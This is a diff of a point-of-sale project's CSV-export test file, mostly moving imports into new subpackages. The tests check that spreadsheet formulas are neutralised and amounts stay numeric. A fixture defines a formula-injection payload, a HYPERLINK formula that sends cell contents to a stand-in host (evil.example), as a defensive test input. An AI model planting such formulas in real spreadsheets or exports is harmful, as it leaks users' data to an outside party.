@@ -17,9 +17,9 @@ from freezegun import freeze_time
 from hypothesis import given
 from hypothesis import strategies as st
 
-from pos.csv_cells import FORMULA_STARTS, csv_cell, rows_text
-from pos.store import Store
-from pos.text import shown
+from pos.base.csv_cells import FORMULA_STARTS, csv_cell, rows_text
+from pos.store.store import Store
+from pos.base.text import shown
 
 NOON = "2026-11-23 17:00:00"  # noon in New York, far from the 04:00 rollover
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
@@ -31,7 +31,7 @@ def _cells(text: str) -> list[list[str]]:
 
 @pytest.fixture(autouse=True)
 def _cheap_pins(monkeypatch: pytest.MonkeyPatch) -> None:
-    from pos import pins
+    from pos.people import pins
 
     monkeypatch.setattr(pins, "_SCRYPT_N", 2**4)
 
@@ -41,11 +41,11 @@ def booby_trapped(store: Store) -> Store:
     """An item named like a formula, sold; a tip for Alice paid out through payroll; a $1.00 refund."""
     from payments import service
     from payments.refunds import refund
-    from pos.catalog import add_item
-    from pos.drawer import open_drawer
-    from pos.orders import add_line, new_order
-    from pos.staff import add_staff, start_shift
-    from pos.tips import PayoutSource, payout
+    from pos.store.catalog import add_item
+    from pos.cash.drawer import open_drawer
+    from pos.sales.orders import add_line, new_order
+    from pos.people.staff import add_staff, start_shift
+    from pos.tips.tips import PayoutSource, payout
 
     with freeze_time(NOON):
         add_item(store, "LINK", LINK, "5.00")
@@ -107,7 +107,7 @@ def test_no_text_is_read_back_as_a_formula_and_nothing_is_lost(text: str) -> Non
 
 @given(st.integers(min_value=-10**15, max_value=10**15), st.integers(min_value=0, max_value=3))
 def test_an_amount_stays_a_number(minor: int, exponent: int) -> None:
-    from pos.money import Money, format_plain
+    from pos.base.money import Money, format_plain
 
     currency = {0: "JPY", 2: "USD", 3: "BHD"}.get(exponent, "USD")
     amount = format_plain(Money(minor, currency))
@@ -115,7 +115,7 @@ def test_an_amount_stays_a_number(minor: int, exponent: int) -> None:
 
 
 def test_every_csv_writer_goes_through_the_one_function() -> None:
-    """No module but pos/csv_cells.py makes a csv.writer or DictWriter of its own."""
+    """No module but pos/base/csv_cells.py makes a csv.writer or DictWriter of its own."""
     root = Path(__file__).resolve().parent.parent
     found = []
     for folder in ("pos", "payments", "commands", "receipts", "screens", "web", "sync", "devices"):
